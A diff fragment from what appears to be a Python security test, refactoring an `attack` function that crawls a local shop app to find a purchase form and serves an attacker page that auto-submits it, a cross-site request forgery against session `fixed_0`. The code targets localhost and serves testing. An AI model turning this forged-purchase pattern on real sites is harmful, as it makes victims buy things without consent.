@@ -170,14 +170,15 @@ document.getElementById("buy").submit();
 def attack(address: str) -> Iterator[tuple[str, str]]:
     """The address of a page of another site that tries to buy in the session `fixed_0`, and what it tries to ask."""
     shop = address.replace("127.0.0.1", "localhost")
-    visitor = HTTPConnection(address.removeprefix("http://"))
-    for path in ("/fixed_0", "/search_results/fixed_0/shirt/1"):
-        visitor.request("GET", path)
-        page = visitor.getresponse().read().decode()
-    item = unescape(re.findall(r'href="(/item_page/[^"]+)"', page)[0])
-    visitor.request("GET", item)
-    done = re.findall(r'action="(/done/[^"]+)"', visitor.getresponse().read().decode())[0]
-    visitor.close()
+    with closing(HTTPConnection(address.removeprefix("http://"))) as visitor:
+
+        def read(path: str) -> str:
+            visitor.request("GET", path)
+            return visitor.getresponse().read().decode()
+
+        read("/fixed_0")
+        item = re.findall(r'href="(/item_page/[^"]+)"', read("/search_results/fixed_0/shirt/1"))[0]
+        done = re.findall(r'action="(/done/[^"]+)"', read(unescape(item)))[0]
 
     class Attacker(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
